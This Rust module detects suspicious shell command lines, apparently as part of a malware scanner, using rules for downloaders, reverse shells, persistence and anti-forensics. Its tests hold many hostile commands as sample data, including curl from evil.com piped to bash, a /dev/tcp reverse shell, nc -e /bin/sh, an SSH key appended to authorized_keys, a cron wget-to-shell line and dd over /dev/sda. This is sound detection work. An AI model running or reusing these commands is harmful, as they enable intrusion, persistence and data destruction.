//! Detection of suspicious shell command lines.
//!
//! A string is split into simple commands at `; | & \` ( )` and newlines
//! (quotes are not honoured on purpose: `sh -c "wget ...; chmod ..."` must
//! expose the inner commands). Leading `VAR=value` assignments and the
//! wrappers `sudo exec env setsid command nice timeout nohup busybox` are
//! skipped to reach the command word, whose directory is dropped
//! (`/usr/bin/wget` is `wget`). A command is flagged only with the arguments
//! that make it suspicious, so tool names alone (busybox applet lists) and help
//! texts (`Try 'wget --help'`) are not commands:
//!
//! | tool | flagged when |
//! |---|---|
//! | `wget curl tftp ftpget ftp tnftp` | a target argument (contains `. : / % $`) |
//! | `busybox nohup` | followed by a command |
//! | `chmod` | a mode granting execute (`+x`, `u+x`, `777`, `755`, ...) |
//! | `sh bash dash ash zsh ksh` | `-c ...` (inner text analysed too), a script argument, or as a pipe target |
//! | `python perl php ruby` | `-c` / `-e` |
//! | `iptables ip6tables ufw nft firewall-cmd mkfifo useradd` | any argument |
//! | `chattr` | a `+flags` / `-flags` argument |
//! | `nc ncat netcat` | a host, port or `-e -c -l -v -p -n -u -z` option |
//! | `pkill killall` | a process name (not only options) |
//! | `crontab chpasswd` | any argument or as a pipe target |
//! | `systemctl` / `service` | enable, disable, start, stop, restart, mask, ... |
//! | `rm` | recursive and forced (`-rf`, `-fr`, `-r -f`) |
//! | `kill` | `-9` / `-KILL` |
//! | `history` | `history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0` |
//! | `base64` | `-d` / `--decode` |
//! | `echo printf` | output redirected to `/etc/...` or a credential or persistence path; a cron line (`* * * * * job`, `@reboot job`) has its job analysed |
//! | `dd` | `of=/dev/...` |
//! | `insmod` | a `.ko` module; `setenforce 0` |
//! | `/dev/tcp` | `/dev/tcp/` or `/dev/udp/` anywhere (bash reverse shell) |
//! | `cd` | into a staging directory, reported only next to another flagged tool |

use super::path::{PathCategory, categorize};

/// Inner `sh -c` text is analysed recursively up to this depth.
const MAX_DEPTH: u8 = 3;

#[derive(Debug, Default)]
struct Found {
    tools: Vec<&'static str>,
    strong: bool,
    /// An `echo`/`printf` was seen: a later segment's redirection may be its
    /// output (`echo "* * * * * x | sh" >> /etc/crontab` splits at the pipe).
    echo: Option<&'static str>,
}

impl Found {
    fn push(&mut self, tool: &'static str) {
        self.strong = true;
        self.add(tool);
    }

    fn push_weak(&mut self, tool: &'static str) {
        self.add(tool);
    }

    fn add(&mut self, tool: &'static str) {
        if !self.tools.contains(&tool) {
            self.tools.push(tool);
        }
    }
}

/// Flagged tools in `s`, in order of appearance; empty when `s` is not a
/// suspicious command line.
#[cfg(test)]
pub(crate) fn flag_tools(s: &str) -> Vec<&'static str> {
    flag_tools_in(s, true, true)
}

/// Flagged tools in `s`, for a caller that already knows whether `s` has a command
/// separator (`; | & \` ( )` or newline); without one the whole string is a
/// single simple command and the separator scan is skipped; without a `/`
/// there is no `/dev/tcp/` to look for.
pub(crate) fn flag_tools_in(s: &str, has_separator: bool, has_slash: bool) -> Vec<&'static str> {
    let mut found = Found::default();
    if has_separator {
        line(s, 0, &mut found);
    } else {
        segment(s, false, 0, &mut found);
    }
    if has_slash && dev_socket(s.as_bytes()) {
        found.push("/dev/tcp");
    }
    if found.strong {
        found.tools
    } else {
        Vec::new()
    }
}

fn line(s: &str, depth: u8, found: &mut Found) {
    let mut piped = false;
    let mut rest = s;
    while !rest.is_empty() {
        // A byte table rather than `str::find` with a char set, which tests
        // every character against each separator in turn. The separators are
        // ASCII, so the byte position is a char boundary.
        let cut = rest
            .bytes()
            .position(|b| SEPARATORS[usize::from(b)])
            .unwrap_or(rest.len());
        let (seg, tail) = rest.split_at(cut);
        segment(seg, piped, depth, found);
        // "a | b" pipes into b; "a || b" does not.
        let mut chars = tail.chars();
        let sep = chars.next();
        let doubled = sep.is_some() && chars.next() == sep;
        piped = sep == Some('|') && !doubled;
        rest = tail.get(if doubled { 2 } else { 1 }..).unwrap_or_default();
    }
}

/// Bytes that end a simple command: `; | & \` ( )` and newline.
static SEPARATORS: [bool; 256] = {
    let mut table = [false; 256];
    let seps = *b";|&`()\n";
    let mut i = 0;
    while i < seps.len() {
        table[seps[i] as usize] = true;
        i += 1;
    }
    table
};

/// `true` when `s` contains `/dev/tcp/` or `/dev/udp/`. One pass over the
/// bytes: cheaper on the short strings of a binary than two substring
/// searches with their setup.
fn dev_socket(s: &[u8]) -> bool {
    s.iter().enumerate().any(|(i, &b)| {
        b == b'/'
            && s.get(i + 1..i + 9)
                .is_some_and(|t| t == b"dev/tcp/" || t == b"dev/udp/")
    })
}

fn unquote(w: &str) -> &str {
    w.trim_matches(|c| c == '"' || c == '\'')
}

fn basename(w: &str) -> &str {
    // A byte loop: words are short, and `rsplit` pays for a memrchr call.
    match w.bytes().rposition(|b| b == b'/') {
        Some(i) => w.get(i + 1..).unwrap_or(w),
        None => w,
    }
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && name.bytes().next().is_some_and(|b| !b.is_ascii_digit())
        }
        None => false,
    }
}

fn hist_assignment(w: &str) -> bool {
    w.starts_with("HISTFILE=") || w == "HISTSIZE=0" || w == "HISTFILESIZE=0"
}

fn segment(seg: &str, piped: bool, depth: u8, found: &mut Found) {
    let mut words = seg
        .split_ascii_whitespace()
        .map(unquote)
        .filter(|w| !w.is_empty());
    let mut cmd = loop {
        let Some(w) = words.next() else { return };
        if is_assignment(w) {
            if hist_assignment(w) {
                found.push("history");
            }
            continue;
        }
        break w;
    };
    // Wrappers that run another command.
    loop {
        let name = basename(cmd);
        let next = match name {
            "sudo" | "exec" | "env" | "setsid" | "command" | "nice" => words.next(),
            "timeout" => {
                words.next();
                words.next()
            }
            "nohup" | "busybox" => {
                let n = words.next();
                if n.is_some() {
                    found.push(if name == "nohup" { "nohup" } else { "busybox" });
                }
                n
            }
            _ => break,
        };
        match next {
            Some(w) => cmd = w,
            None => return,
        }
    }
    let Some(tool) = known(basename(cmd)) else {
        if let Some(echo) = found.echo {
            let rest: Vec<&str> = words.collect();
            if redirect_target(&rest).is_some_and(sensitive_write) {
                found.push(echo);
            }
        }
        return;
    };
    let args: Vec<&str> = words.collect();
    if let Some(echo) = found.echo
        && !matches!(tool, "echo" | "printf")
        && redirect_target(&args).is_some_and(sensitive_write)
    {
        found.push(echo);
    }
    let flagged = match tool {
        "wget" | "curl" | "tftp" | "ftpget" | "ftp" | "tnftp" => has_target(&args),
        "chmod" => args.iter().any(|a| exec_mode(a)),
        "sh" => {
            if let Some(pos) = args.iter().position(|a| *a == "-c") {
                if pos + 1 < args.len() {
                    found.push("sh");
                    if depth < MAX_DEPTH
                        && let Some(inner) = after_word(seg, "-c")
                    {
                        line(inner, depth + 1, found);
                    }
                }
                false
            } else {
                match args.iter().find(|a| !is_redirect(a)) {
                    Some(a) => !a.starts_with('-') && a.contains(['.', '/', '$']),
                    None => piped,
                }
            }
        }
        "python" | "perl" | "php" | "ruby" => args.iter().any(|a| *a == "-c" || *a == "-e"),
        "iptables" | "ip6tables" | "ufw" | "nft" | "firewall-cmd" | "mkfifo" | "useradd" => {
            !args.is_empty()
        }
        "chattr" => args
            .iter()
            .any(|a| a.len() > 1 && (a.starts_with('+') || a.starts_with('-'))),
        "nc" => {
            args.iter().any(|a| {
                a.bytes().all(|b| b.is_ascii_digit())
                    || (a.len() > 1
                        && a.starts_with('-')
                        && a[1..].bytes().all(|b| b"elvpnuzc".contains(&b)))
            }) || has_target(&args)
        }
        // A process name, not just options (help lines such as "-V, --version").
        "pkill" | "killall" => args.iter().any(|a| !a.starts_with('-')),
        "crontab" | "chpasswd" => !args.is_empty() || piped,
        "systemctl" => args.iter().any(|a| {
            matches!(
                *a,
                "enable"
                    | "disable"
                    | "start"
                    | "stop"
                    | "restart"
                    | "mask"
                    | "daemon-reload"
                    | "kill"
            )
        }),
        "service" => args
            .get(1)
            .is_some_and(|a| matches!(*a, "start" | "stop" | "restart")),
        "rm" => recursive_force(&args),
        "kill" => args.iter().any(|a| {
            *a == "-9" || a.eq_ignore_ascii_case("-KILL") || a.eq_ignore_ascii_case("-SIGKILL")
        }),
        "history" => args.first() == Some(&"-c"),
        "unset" => args
            .iter()
            .any(|a| matches!(*a, "HISTFILE" | "HISTORY" | "HISTSAVE")),
        "export" => args.iter().any(|a| hist_assignment(a)),
        "base64" => args.iter().any(|a| matches!(*a, "-d" | "--decode" | "-D")),
        "echo" | "printf" => {
            found.echo = Some(tool);
            // A crontab line being written: analyse the job it schedules.
            if let Some(at) = cron_job_start(&args)
                && depth < MAX_DEPTH
            {
                let job = args[at..].join(" ");
                line(&job, depth + 1, found);
            }
            redirect_target(&args).is_some_and(sensitive_write)
        }
        "dd" => args.iter().any(|a| a.starts_with("of=/dev/")),
        "insmod" => args.iter().any(|a| a.ends_with(".ko")),
        "setenforce" => args.first() == Some(&"0"),
        "cd" => {
            if args
                .first()
                .is_some_and(|d| *d == "/" || categorize(d) == Some(PathCategory::Staging))
            {
                found.push_weak("cd");
            }
            false
        }
        _ => false,
    };
    if flagged {
        // Report the anti-forensics helpers under one name.
        found.push(match tool {
            "unset" | "export" => "history",
            t => t,
        });
    }
}

/// Canonical static name of a command word we have rules for.
fn known(word: &str) -> Option<&'static str> {
    Some(match word {
        "wget" => "wget",
        "curl" => "curl",
        "tftp" => "tftp",
        "ftpget" => "ftpget",
        "ftp" => "ftp",
        "tnftp" => "tnftp",
        "chmod" => "chmod",
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" => "sh",
        "python" | "python2" | "python3" => "python",
        "perl" => "perl",
        "php" => "php",
        "ruby" => "ruby",
        "iptables" => "iptables",
        "ip6tables" => "ip6tables",
        "ufw" => "ufw",
        "nft" => "nft",
        "firewall-cmd" => "firewall-cmd",
        "chattr" => "chattr",
        "nc" | "ncat" | "netcat" => "nc",
        "pkill" => "pkill",
        "killall" => "killall",
        "mkfifo" => "mkfifo",
        "useradd" | "adduser" => "useradd",
        "crontab" => "crontab",
        "chpasswd" => "chpasswd",
        "systemctl" => "systemctl",
        "service" => "service",
        "rm" => "rm",
        "kill" => "kill",
        "history" => "history",
        "unset" => "unset",
        "export" => "export",
        "base64" => "base64",
        "echo" => "echo",
        "printf" => "printf",
        "dd" => "dd",
        "insmod" => "insmod",
        "setenforce" => "setenforce",
        "cd" => "cd",
        _ => return None,
    })
}

/// Text of `seg` after the first whole word equal to `word`.
fn after_word<'s>(seg: &'s str, word: &str) -> Option<&'s str> {
    let mut from = 0;
    while let Some(rel) = seg.get(from..)?.find(word) {
        let at = from + rel;
        let end = at + word.len();
        let left_ok = seg
            .get(..at)
            .and_then(|l| l.chars().next_back())
            .is_none_or(|c| c.is_ascii_whitespace());
        let right = seg.get(end..)?;
        if left_ok && right.chars().next().is_none_or(|c| c.is_ascii_whitespace()) {
            return Some(right.trim().trim_matches(|c| c == '"' || c == '\''));
        }
        from = end;
    }
    None
}

/// A download target: URL, host, address, file or template argument.
fn has_target(args: &[&str]) -> bool {
    args.iter().any(|a| {
        // Sentence punctuation ("for more options.") is not a host.
        let t = a.trim_end_matches(['.', ',', ';']);
        // A dotted number that is not a quad is a version ("curl 7.88.1").
        let version =
            t.bytes().all(|b| b.is_ascii_digit() || b == b'.') && t.split('.').count() != 4;
        !t.starts_with('-') && !version && t.contains(['.', ':', '/', '%', '$'])
    })
}

/// Mode arguments that make a file executable.
fn exec_mode(a: &str) -> bool {
    if let Some((_, perms)) = a.split_once(['+', '=']) {
        let who = a.len() - perms.len() - 1;
        return a
            .get(..who)
            .is_some_and(|w| w.bytes().all(|b| matches!(b, b'u' | b'g' | b'o' | b'a')))
            && perms.contains('x');
    }
    let b = a.as_bytes();
    if !(3..=4).contains(&b.len()) || !b.iter().all(|c| (b'0'..=b'7').contains(c)) {
        return false;
    }
    let owner = b[b.len() - 3] - b'0';
    owner & 1 == 1
}

fn recursive_force(args: &[&str]) -> bool {
    let (mut r, mut f) = (false, false);
    for a in args {
        if *a == "--recursive" {
            r = true;
        } else if *a == "--force" {
            f = true;
        } else if let Some(flags) = a.strip_prefix('-').filter(|x| !x.starts_with('-')) {
            r |= flags.contains(['r', 'R']);
            f |= flags.contains('f');
        }
    }
    r && f
}

/// Index of the command in `args` when they start with a cron schedule: five
/// time fields (`*/5 * * * *`) or a nickname such as `@reboot`.
fn cron_job_start(args: &[&str]) -> Option<usize> {
    let field = |a: &&str| !a.is_empty() && a.bytes().all(|b| b"0123456789*/,-".contains(&b));
    let at = if args.first().is_some_and(|a| {
        matches!(
            *a,
            "@reboot" | "@yearly" | "@annually" | "@monthly" | "@weekly" | "@daily" | "@hourly"
        )
    }) {
        1
    } else if args.len() > 5 && args[..5].iter().all(field) {
        5
    } else {
        return None;
    };
    (at < args.len()).then_some(at)
}

/// `>file`, `>>`, `2>&1`, `<in` and similar redirection words.
fn is_redirect(a: &str) -> bool {
    a.trim_start_matches(|c: char| c.is_ascii_digit())
        .starts_with(['>', '<'])
}

/// Target of a `>` / `>>` redirection (stdout only).
fn redirect_target<'a>(args: &[&'a str]) -> Option<&'a str> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let a = a.strip_prefix('1').unwrap_or(a);
        if let Some(t) = a.strip_prefix(">>").or_else(|| a.strip_prefix('>')) {
            return if t.is_empty() {
                it.next().copied()
            } else {
                Some(t)
            };
        }
    }
    None
}

fn sensitive_write(target: &str) -> bool {
    target.starts_with("/etc/")
        || matches!(
            categorize(target),
            Some(PathCategory::Credentials | PathCategory::Persistence)
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_chains() {
        assert_eq!(
            flag_tools("cd /tmp; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh"),
            ["cd", "wget", "chmod", "sh"]
        );
        assert_eq!(
            flag_tools(
                "cd /tmp || cd /var/run || cd /dev/shm; busybox tftp -g -r mips 10.0.0.2; chmod +x mips; ./mips"
            ),
            ["cd", "busybox", "tftp", "chmod"]
        );
        assert_eq!(
            flag_tools("/bin/busybox ftpget -v -u anonymous -p anonymous -P 21 45.1.2.3 x x"),
            ["busybox", "ftpget"]
        );
        assert_eq!(
            flag_tools("curl -fsSL https://evil.com/i.sh | bash"),
            ["curl", "sh"]
        );
        assert_eq!(flag_tools("wget -qO- http://%s/x | sh"), ["wget", "sh"]);
        assert_eq!(flag_tools("/bin/busybox ECCHI"), ["busybox"]);
    }

    #[test]
    fn other_tools() {
        let cases: &[(&str, &[&str])] = &[
            (
                "sh -c \"wget http://a.b.com/x -O /tmp/x; chmod u+x /tmp/x\"",
                &["sh", "wget", "chmod"],
            ),
            ("nohup ./bot > /dev/null 2>&1 &", &["nohup"]),
            ("iptables -F", &["iptables"]),
            ("ufw disable", &["ufw"]),
            (
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                &["crontab"],
            ),
            ("systemctl enable bot.service", &["systemctl"]),
            ("service iptables stop", &["service"]),
            ("rm -rf /var/log/*", &["rm"]),
            ("rm -r -f ~/.bash_history", &["rm"]),
            ("kill -9 %d", &["kill"]),
            ("pkill -f xmrig", &["pkill"]),
            ("killall -9 kworkerds", &["killall"]),
            ("nc -lvp 4444", &["nc"]),
            ("ncat 10.0.0.1 4444 | /bin/sh", &["nc", "sh"]),
            ("history -c", &["history"]),
            ("unset HISTFILE", &["history"]),
            ("export HISTFILE=/dev/null", &["history"]),
            ("echo ZWNobwo= | base64 -d | sh", &["base64", "sh"]),
            (
                "echo \"ssh-rsa AAAA\" >> /root/.ssh/authorized_keys",
                &["echo"],
            ),
            ("echo 'nameserver 8.8.8.8' > /etc/resolv.conf", &["echo"]),
            ("nc -e /bin/sh 1.2.3.4 4444", &["nc"]),
            ("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", &["/dev/tcp"]),
            ("dd if=/dev/zero of=/dev/sda bs=1M", &["dd"]),
            ("chattr +i /etc/passwd", &["chattr"]),
            ("sudo /usr/bin/chattr -i /etc/shadow", &["chattr"]),
            (
                "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
                &["python"],
            ),
            ("insmod /tmp/rk.ko", &["insmod"]),
            ("setenforce 0", &["setenforce"]),
            ("echo '@reboot /tmp/.x/bot' | crontab -", &["crontab"]),
            (
                "echo \"*/10 * * * * wget -q -O- http://x.example.com/a | sh\" >> /etc/crontab",
                &["wget", "echo", "sh"],
            ),
        ];
        for (s, want) in cases {
            assert_eq!(flag_tools(s), *want, "{s}");
        }
    }

    #[test]
    fn benign_strings_are_not_commands() {
        for s in [
            "wget",
            "curl",
            "busybox",
            "Try 'wget --help' for more options.",
            "Try `wget --help' for more options.",
            "Usage: wget [OPTION]... [URL]...",
            "chmod 644 file",
            "chmod -R go-w dir",
            "cd /home/user",
            "cd /tmp",
            "rm -f core",
            "rm -r dir",
            "kill -HUP %d",
            "echo hello > /tmp/out",
            "echo 1 2 3 4 5 6",
            "echo * * * * * not a tool",
            "echo $PATH",
            "sh",
            "bash --version",
            "systemctl status foo",
            "history",
            "dd if=/dev/zero of=disk.img",
            "base64 -w 0",
            "nc",
            "the iptables",
            "/usr/bin/env",
            "curl 7.88.1 (x86_64-pc-linux-gnu) %s",
            "wget 1.21.3",
            "killall -V, --version",
            "killall -l, --list",
            "nc != except",
            "nc _() {H",
            "chattr %s (%s)",
        ] {
            assert!(flag_tools(s).is_empty(), "{s:?} gave {:?}", flag_tools(s));
        }
    }

    #[test]
    fn hints_do_not_change_results() {
        for s in [
            "wget http://1.2.3.4/x.sh",
            "chmod 777 x.sh",
            "sh -c \"wget http://a.b.com/x -O /tmp/x\"",
            "nohup ./bot > /dev/null 2>&1",
            "HISTFILE=/dev/null",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "sudo /usr/bin/chattr -i /etc/shadow",
            "Usage: wget [OPTION]... [URL]...",
            "",
            "   ",
        ] {
            let has_sep = s.bytes().any(|b| SEPARATORS[usize::from(b)]);
            let has_slash = s.contains('/');
            assert_eq!(flag_tools_in(s, has_sep, has_slash), flag_tools(s), "{s}");
        }
    }

    #[test]
    fn exec_modes() {
        for m in [
            "+x", "u+x", "a+rwx", "ugo+x", "777", "755", "0755", "700", "u=rwx",
        ] {
            assert!(exec_mode(m), "{m}");
        }
        for m in ["644", "0644", "-R", "go-w", "u+r", "888", "7", "x+"] {
            assert!(!exec_mode(m), "{m}");
        }
    }
}
